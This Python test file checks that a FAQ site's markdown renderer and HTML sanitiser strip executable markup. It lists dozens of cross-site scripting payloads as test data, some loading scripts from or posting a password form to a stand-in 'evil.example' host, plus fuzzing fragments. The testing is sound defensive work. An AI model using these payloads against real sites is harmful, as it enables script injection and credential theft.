from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from faq.markdown import html_to_text, render_markdown, sanitise_html
from tests.faq.html_checks import executable_markup

# Whatever an editor pastes, none of this may survive as something a browser would run.
HOSTILE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="module">import("//evil.example")</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click]( javascript:alert(1))",
    '[click](javascript:alert(1) "title")',
    "[ref link][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">html link</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x09;script:alert(1)">encoded tab</a>',
    '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[data](data:text/html,<script>alert(1)</script>)",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "<input onfocus=alert(1) autofocus>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<p onclick="alert(1)" onmouseover=alert(1)>handlers</p>',
    '<a href="/ok" onclick="alert(1)">handler on a good link</a>',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)"',
    '<a href="x" onmouseover="alert(1)"',
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<body onload="alert(1)">',
    "**bold** <em onmouseover=alert(1)>em</em> [ok](https://example.org)",
    "- item <img src=x onerror=alert(1)>\n- [link](javascript:alert(1))",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058alert(1)">decimal entities without semicolons</a>',
    '<a href="\x01javascript:alert(1)">control char</a>',
]


def test_there_are_plenty_of_hostile_payloads() -> None:
    assert len(HOSTILE_PAYLOADS) >= 25


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_hostile_markup_leaves_nothing_executable(payload: str) -> None:
    rendered = render_markdown(payload)
    assert executable_markup(rendered) == [], rendered
    assert "javascript:" not in rendered.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", rendered, re.IGNORECASE), rendered


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_hostile_html_is_cleaned_even_without_markdown(payload: str) -> None:
    assert executable_markup(sanitise_html(payload)) == []


def test_script_and_style_content_is_dropped_not_shown_as_text() -> None:
    rendered = render_markdown("before <script>alert('x')</script><style>p{}</style> after")
    assert "alert" not in rendered
    assert "p{}" not in rendered
    assert "before" in rendered and "after" in rendered


def test_markdown_keeps_lists_emphasis_and_safe_links() -> None:
    rendered = render_markdown(
        "Intro\n\n1. **First:** one\n2. *Second*\n\n- a\n- b\n\n"
        "[Clinic](https://example.org/x) [Call us](tel:+15550100) [Page](/faq/)"
    )
    assert rendered.count("<ol>") == 1 and rendered.count("<ul>") == 1
    assert rendered.count("<li>") == 4
    assert "<strong>First:</strong>" in rendered and "<em>Second</em>" in rendered
    assert 'href="https://example.org/x"' in rendered
    assert 'href="tel:+15550100"' in rendered
    assert 'href="/faq/"' in rendered


def test_links_cannot_reach_back_to_the_page_that_opened_them() -> None:
    rendered = render_markdown("[Clinic](https://example.org)")
    assert 'rel="noopener noreferrer nofollow"' in rendered


def test_a_top_level_heading_becomes_h2_under_the_page_question() -> None:
    rendered = render_markdown("# Before\n\n## During\n\n### Detail")
    assert "<h1" not in rendered
    assert "<h2>Before</h2>" in rendered and "<h2>During</h2>" in rendered
    assert "<h3>Detail</h3>" in rendered


def test_plain_text_keeps_words_of_neighbouring_blocks_apart() -> None:
    assert html_to_text(render_markdown("1. first\n2. second &amp; third")) == (
        "first second & third"
    )


# Building blocks that, combined at random, make plausible and implausible attacks.
_FRAGMENTS = st.sampled_from(
    [
        "<", ">", "/", "=", '"', "'", " ", "\t", "\n", "\x00", "&#", ";", "x", "(", ")", "[", "]",
        "script", "SCRIPT", "<script>", "</script>", "javascript:", "java", "script:", "&#58;",
        "&#106;", "data:", "vbscript:", "on", "onerror", "onload", "onclick=", " onmouseover=",
        "<a href=", "<img src=x ", "<svg ", "<iframe ", "<style>", "style=", "<!--", "-->",
        "](", "![", "<object ", "<embed ", "<math>", "<form>", "alert(1)", "`", "**", "\n- ",
        "\n1. ", "    ", "<p ", "<div ", "\\",
    ]
)  # fmt: skip
_HOSTILE_TEXT = st.one_of(
    st.lists(_FRAGMENTS, max_size=40).map("".join),
    st.text(max_size=200),
    st.lists(st.one_of(_FRAGMENTS, st.text(max_size=5)), max_size=30).map("".join),
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_HOSTILE_TEXT)
def test_rendered_markdown_never_contains_executable_markup(text: str) -> None:
    rendered = render_markdown(text)
    assert "<script" not in rendered.lower()
    # No event-handler attribute, and no javascript: URL, inside any tag.
    for tag in re.findall(r"<[^>]*>", rendered):
        assert not re.search(r"\son\w*\s*=", tag, re.IGNORECASE), tag
        assert "javascript:" not in tag.lower(), tag
    assert executable_markup(rendered) == [], rendered
